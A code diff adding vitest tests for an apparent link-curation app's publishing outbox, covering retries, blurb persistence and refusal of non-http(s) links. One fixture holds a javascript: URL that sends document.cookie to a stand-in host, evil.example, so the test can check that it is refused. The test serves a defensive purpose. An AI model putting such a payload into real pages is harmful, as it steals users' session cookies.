@@ -2,7 +2,15 @@
 // DesktopApi seam is a stand-in (see outbox-testing.ts).
 import { describe, expect, it } from 'vitest';
 import { IDBFactory, IDBKeyRange } from 'fake-indexeddb';
-import { getPublication } from '../../shared/collection';
+import * as Y from 'yjs';
+import {
+  getPublication,
+  getPublicationBlurb,
+  maps,
+  materializeAll,
+  recordPublication,
+} from '../../shared/collection';
+import { keptBlurbs, siteChanges, startingBlurb } from '../../shared/publish';
 import { CollectionDb } from './db';
 import { LocalLibrary } from './library';
 import { InlineSearch } from './search-client';
@@ -151,6 +159,26 @@ describe('Outbox', () => {
     );
   });
 
+  it('runs a job that waits for its next try at once on Retry now', async () => {
+    const lib = await openLibrary(new IDBFactory());
+    const items = addTwo(lib);
+    const clock = 1_000_000;
+    const { api, blueskyCalls } = scriptedApi(['fail', 'ok']);
+    const outbox = outboxFor(lib, api, { now: () => clock });
+    await outbox.start();
+    await outbox.publish({ items, bluesky: true, site: false });
+    await outbox.runDue();
+    const waiting = outbox.list()[0]!;
+    expect(waiting).toMatchObject({ state: 'queued', attempts: 1 });
+    await outbox.retry(waiting.id);
+    await outbox.runDue();
+    expect(outbox.list()[0]).toMatchObject({ id: waiting.id, state: 'done' });
+    expect(blueskyCalls.map((job) => job.posts[0]?.rkey)).toEqual([
+      blueskyCalls[0]?.posts[0]?.rkey,
+      blueskyCalls[0]?.posts[0]?.rkey,
+    ]);
+  });
+
   it('stops at once on a failure a retry cannot fix', async () => {
     const lib = await openLibrary(new IDBFactory());
     const items = addTwo(lib);
@@ -228,5 +256,94 @@ describe('Outbox', () => {
       url: 'https://links.example/',
       ref: 'abc123',
     });
+  });
+
+  it('keeps the blurb a curator typed through a failed first attempt, Retry, a restart and another device', async () => {
+    const factory = new IDBFactory();
+    const lib = await openLibrary(factory);
+    const [raft] = addTwo(lib);
+    const { api, siteCalls, blueskyCalls } = scriptedApi(['fail', 'fail', 'ok', 'ok']);
+    const outbox = outboxFor(lib, api, { backoff: { maxAttempts: 1 } });
+    await outbox.start();
+    const typed = 'Worth it for the diagrams.';
+    await outbox.publish({
+      items: [raft!],
+      bluesky: true,
+      site: true,
+      blurbs: { [raft!.id]: typed },
+    });
+    await outbox.runDue();
+    expect(outbox.list().map((row) => row.state)).toEqual(['failed', 'failed']);
+    for (const row of outbox.list()) await outbox.retry(row.id);
+    await outbox.runDue();
+    expect(outbox.list().map((row) => row.state)).toEqual(['done', 'done']);
+    // The retried site build says what the curator typed, not the default.
+    expect(siteCalls.map((picks) => picks.find((p) => p.item.id === raft!.id)?.blurb)).toEqual([
+      typed,
+      typed,
+    ]);
+    expect(blueskyCalls.map((job) => job.posts[0]?.text)).toEqual([typed, typed]);
+    const update = Y.encodeStateAsUpdate(lib.doc);
+    outbox.stop();
+    await lib.close();
+
+    // After a restart, and on another device, the Publish dialog starts from the same words.
+    const again = await openLibrary(factory);
+    const row = again.store.get(raft!.id)!;
+    expect(startingBlurb(row, keptBlurbs(again.doc))).toBe(typed);
+    const elsewhere = new Y.Doc();
+    Y.applyUpdate(elsewhere, update);
+    for (const target of ['bluesky', 'site'] as const)
+      expect(getPublicationBlurb(elsewhere, raft!.id, target)).toBe(typed);
+    await again.close();
+  });
+
+  it("sends another maintainer's picks to the site flagged, and never a link that is not http(s)", async () => {
+    const lib = await openLibrary(new IDBFactory());
+    const [raft] = addTwo(lib);
+    // A co-maintainer writes an item the app would never make, and marks it published.
+    const mallory = new Y.Doc();
+    Y.applyUpdate(mallory, Y.encodeStateAsUpdate(lib.doc));
+    const evil = 'evilevilevilevilevil';
+    const url = "javascript:fetch('https://evil.example/'+document.cookie)//https://example.com/";
+    mallory.transact(() => {
+      const items = maps(mallory).items as Y.Map<unknown>;
+      items.set(`${evil}/url`, url);
+      items.set(`${evil}/title`, 'Totally harmless');
+      items.set(`${evil}/addedAt`, 1);
+    });
+    recordPublication(
+      mallory,
+      evil,
+      { target: 'site', key: `x-${evil.slice(0, 8)}`, by: 'me', at: 2, state: 'published' },
+      { memberId: 'mallory' },
+    );
+    Y.applyUpdate(lib.doc, Y.encodeStateAsUpdate(mallory));
+
+    const { api, siteCalls } = scriptedApi(['ok']);
+    const outbox = outboxFor(lib, api);
+    await outbox.start();
+    // Picking it here is refused with the reason.
+    const refused = await outbox.publish({
+      items: [lib.store.get(evil)!],
+      bluesky: true,
+      site: true,
+    });
+    expect(refused.problems.flatMap((p) => p.problems)).toContain(
+      'the link is a javascript: address; only http(s) links are published',
+    );
+    await outbox.publish({ items: [raft!], bluesky: false, site: true });
+    await outbox.runDue();
+    const sent = siteCalls[0]!;
+    expect(sent.map((p) => [p.item.id, p.pickedHere])).toEqual(
+      expect.arrayContaining([
+        [raft!.id, true],
+        [evil, false],
+      ]),
+    );
+    const changes = siteChanges(null, sent);
+    expect(changes.changes.map((c) => [c.title, c.pickedHere])).toEqual([['Raft', true]]);
+    expect(changes.leftOut.map((p) => p.title)).toEqual(['Totally harmless']);
+    expect(materializeAll(lib.doc, 'me').find((r) => r.id === evil)?.url).toBe(url);
   });
 });
